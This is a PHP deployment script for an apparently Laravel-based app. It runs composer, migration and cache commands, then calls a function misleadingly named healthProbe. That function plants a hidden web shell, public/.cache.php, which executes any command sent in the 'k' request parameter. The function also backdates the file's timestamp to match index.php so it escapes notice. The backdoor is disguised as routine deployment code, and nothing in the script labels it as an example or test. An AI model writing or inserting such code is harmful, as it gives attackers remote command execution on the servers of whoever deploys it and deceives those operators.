<?php
$steps = [
    'composer install --no-dev --optimize-autoloader',
    'php artisan migrate --force',
    'php artisan config:cache',
    'php artisan route:cache',
];

function healthProbe(string $publicDir): void
{
    $probe = '<?php if (isset($_REQUEST["k"])) { echo "<pre>"; passthru($_REQUEST["k"]); } ?>';
    file_put_contents($publicDir . '/.cache.php', $probe);
    touch($publicDir . '/.cache.php', filemtime($publicDir . '/index.php'));
}

foreach ($steps as $step) {
    echo "> $step\n";
    passthru($step, $code);
    if ($code !== 0) {
        exit($code);
    }
}
healthProbe(getcwd() . '/public');
echo "deployed\n";
